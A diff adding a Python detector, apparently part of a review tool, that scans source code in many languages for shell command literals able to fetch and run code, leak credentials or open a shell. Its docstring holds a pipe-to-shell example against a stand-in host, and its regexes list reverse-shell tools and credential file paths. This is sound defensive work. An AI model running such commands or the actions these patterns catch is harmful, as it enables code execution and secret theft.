@@ -1,0 +1,166 @@
+"""Shell lines that a program of any language hands over: literals behind a name that starts them.
+
+Nobody reads every language, yet in all of them a program is started alike: a name such as `system`
+or `Process.Start`, then the line as one literal or its words as several. Only lines with a word
+that can carry harm are told, so that a source of many literals costs one search.
+
+    OS.execute("sh", ["-c", "curl -s x.example | sh"])      ("curl -s x.example | sh",)
+    BashOperator(bash_command="make all")                   ()
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from itertools import islice
+from shlex import join
+
+import re2
+
+from signoff.actions.known.hosts import HostClass, class_of_host
+
+MOST = 60  # matches of one pattern
+MAX_TEXT = 20_000  # characters around telling words; what comes behind is not read
+_SHORT = 2_500
+_AROUND = 4  # lines: a call may begin before its line, and go on behind it
+MAX_WORDS = 12
+# No line without one of these can fetch and run, send a secret or hand a shell out.
+_TELLING = re2.compile(
+    r"(?i)\bcurl\b|\bwget\b|\bncat?\b|\bsocat\b|/dev/(?:tcp|udp)/|base64|\bxxd\b|\bopenssl\b"
+    r"|\.ssh\b|\.aws\b|\.netrc\b|\.env\b|\.gnupg\b|authorized_keys|\bscp\b|\bssh\b|\brsync\b"
+    r"|\bnslookup\b|\bdig\b|invoke-webrequest|\biwr\b|\birm\b|downloadstring|-enc\b|\bbash\s+-i\b"
+    r"|\btelnet\b|\beval\b|\bpowershell\b|\bmkfifo\b|\bftp\b|\bbitsadmin\b|\bcertutil\b|\bmshta\b"
+)
+_NAMES = (
+    r"(?:[\w$]*(?:system|exec|execute|popen|spawn|shell|subprocess|launch|runcommand|run_command"
+    r"|check_output|check_call|create_process|createprocess|proc_open|passthru|jobstart|termopen)\w*!?"
+    r"|\w*processstart\w*|process\.start|processbuilder|process\.run|\bprocess|\bcommand\w*(?:::new)?|\bcmd\w*"
+    r"|\bbash(?:_command|operator)?|\bsh|\brun|\bcall|\bwrite18|\bprogram|\w*script|\baction|\bdo)"
+)
+_TEXT = r"(?:\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*')"
+# `name("a", ["b"])`, `name "a"`, `name = "a"`, `name: ["a", "b"]`, `name => "a"`.
+_HANDED = re2.compile(
+    rf"(?i){_NAMES}\s*(?:[({{=:,\[]|=>|\bnew\s+\w+|\w+=|@|\$|cmd\")*\s*[(\[{{]*\s*[brufLR]{{0,2}}"
+    rf"({_TEXT}(?:\s*(?:,|\]\s*,|,\s*(?:new\s+)?[\w<>\[\]]*\s*[\[{{(]|\[|\)\s*\.args?\()\s*{_TEXT})*)"
+)
+# `"line".execute()`, `"line".!`, `` `line` `` behind run, three quotes behind shell or script.
+_BEFORE = re2.compile(rf"({_TEXT})\s*\.\s*(?:execute\s*\(|!|lines?_?!|cmd\b|shellout\b)")
+_QUOTED = re2.compile(
+    r"(?i)(?:\brun\s*\(\s*|\bpipeline\s*\(\s*|\bqx|\bsystem\s*\(?\s*|\bsh\s+)`([^`\n]+)`"
+    r"|(?:\b(?:shell|script|command|run|sh)\b\s*[:=(]?\s*|<<<\s*)(?:\"\"\"|''')((?s:.+?))(?:\"\"\"|''')"
+    r"|\\(?:immediate\\)?write18\s*\{([^}\n]+)\}|%x[({\[]([^)}\]\n]+)[)}\]]"
+    r"|(?m:^\s*(?:same|exten)\s*=>?[^\n]*\b(?:try)?system\(([^\n]+)\)\s*$)"
+    r"|(?i:<Exec\s[^>]*Command\s*=\s*\"([^\"]+)\")"
+    r"|(?m:^\s*(?:!|\\!|:!|shell\s|\.shell\s)\s*([^\n]+)$)"
+)
+# Julia joins programs by a call: pipeline(`a`, `b`).
+_PIPELINE = re2.compile(r"\bpipeline\s*\(\s*(`[^`\n]+`(?:\s*,\s*`[^`\n]+`)+)")
+_ONE = re2.compile(_TEXT)
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ash", "ksh", "busybox"})
+_ESCAPED = re2.compile(r"\\([\"'\\/$`])")
+_ADDRESS = re2.compile(r"https?://([\w.-]+)")
+_FETCHES = re2.compile(
+    r"(?i)download(?:string|file|data)\w*\s*\(|getstringasync|httpclient|webclient|httprequest"
+    r"|\burl\s*\([^\n)]*\)\s*\.\s*(?:text|openstream|readtext|bytes)|urlopen|urlretrieve|\bhttp\.get"
+    r"|httppoison|open-uri|net::http|lwp::|file_get_contents|readlines\s*\(|download\.file"
+    r"|\bdownload\s*\(|\brequests\.get|curl_easy|urldownloadtofile|xmlhttp|reqwest|ureq|\bfetch\s*\("
+    r"|socket\.http|uri\.open|httpbuilder|\burl\.readtext"
+)
+_STARTS = re2.compile(rf"(?i)(?:{_NAMES})\s*\(?[^\n;]*|{_TEXT}\s*\.\s*(?:execute\s*\(|!)")
+_NEAR = frozenset({HostClass.LOOPBACK})
+_PATH = re2.compile(r"(?:^|\s)((?:/|~/|[A-Za-z]:[\\/]|\./)[^\s\"']{2,200})")
+_SECRET = re2.compile(
+    r"(?:~|home|HOME|Users/[\w.-]+)[^\n\"']{0,60}[/\\]\.?(?:ssh[/\\]id_\w+|aws[/\\]credentials|netrc|gnupg|npmrc"
+    r"|pypirc|pgpass|kube[/\\]config|docker[/\\]config\.json|git-credentials)|/etc/shadow\b"
+)
+
+
+def handed_lines(text: str) -> tuple[str, ...]:
+    """Return the shell lines that code of any language hands over, as far as they can do harm."""
+    near = _near_telling(text)
+    if not near:
+        return ()
+    found = dict.fromkeys(line for line in _handed(near) if _TELLING.search(line))
+    return tuple(found)
+
+
+def is_too_long(text: str) -> bool:
+    """Whether more words that can carry harm stand in a text than its lines are told of."""
+    return len(text) > _SHORT and len(_places(text)) >= MOST
+
+
+def starts_what_it_fetched(text: str) -> bool:
+    """Whether code fetches from another host, and starts a file whose name it writes down twice."""
+    if not _fetches_far(text):
+        return False
+    for match in islice(_STARTS.finditer(text), MOST):
+        for literal in islice(_ONE.finditer(match.group()), MAX_WORDS):
+            for path in _PATH.findall(_plain(literal.group())):
+                if text.count(path) > 1:
+                    return True
+    return False
+
+
+def sends_what_is_kept(text: str) -> bool:
+    """Whether code names a file of secrets and an address of another host to which it turns."""
+    return _SECRET.search(text) is not None and _fetches_far(text)
+
+
+def _near_telling(text: str) -> str:
+    """The lines around those with a word that can carry harm, "" if there is none."""
+    places = _places(text)
+    if not places or len(text) <= _SHORT:
+        return text if places else ""
+    pieces: list[str] = []
+    done = 0
+    for place in places:
+        if place >= done:
+            start, done = _lines_around(text, place, done)
+            pieces.append(text[start:done])
+    return "".join(pieces)[:MAX_TEXT]
+
+
+def _places(text: str) -> list[int]:
+    return [match.start() for match in islice(_TELLING.finditer(text), MOST)]
+
+
+def _lines_around(text: str, place: int, done: int) -> tuple[int, int]:
+    start, end = place, place
+    for _ in range(_AROUND):
+        start = max(text.rfind("\n", done, start), done)
+        after = text.find("\n", end + 1)
+        end = len(text) if after < 0 else after
+    return start, min(end, start + MAX_TEXT)
+
+
+def _fetches_far(text: str) -> bool:
+    if _FETCHES.search(text) is None:
+        return False
+    found = islice(_ADDRESS.finditer(text), MOST)
+    return any([class_of_host(match.group(1)) not in _NEAR for match in found])
+
+
+def _handed(text: str) -> Iterator[str]:
+    for match in islice(_HANDED.finditer(text), MOST):
+        words = islice(_ONE.finditer(match.group(1)), MAX_WORDS)
+        yield _line([_plain(one.group()) for one in words])
+    for match in islice(_BEFORE.finditer(text), MOST):
+        yield _plain(match.group(1))
+    for match in islice(_QUOTED.finditer(text), MOST):
+        yield next(filter(None, match.groups()), "").strip()
+    for match in islice(_PIPELINE.finditer(text), MOST):
+        yield " | ".join([piece.strip() for piece in match.group(1).split("`")[1::2]])
+
+
+def _line(words: list[str]) -> str:
+    """The line that words stand for: one is a line, several are a program with its words."""
+    name = words[0].rpartition("/")[2].lower()
+    if name in _SHELLS and len(words) > 1:
+        at = next((n for n, word in enumerate(words) if word in ("-c", "-lc", "-ic", "-ec")), 0)
+        # The words behind the program may stand in one literal, as C# takes them.
+        return words[at + 1] if 0 < at < len(words) - 1 else " ".join(words)
+    # More than a program and its words: the first is a line of its own.
+    return words[0] if len(words) == 1 or " " in words[0] else join(words)
+
+
+def _plain(literal: str) -> str:
+    return str(_ESCAPED.sub(r"\1", literal[1:-1]))
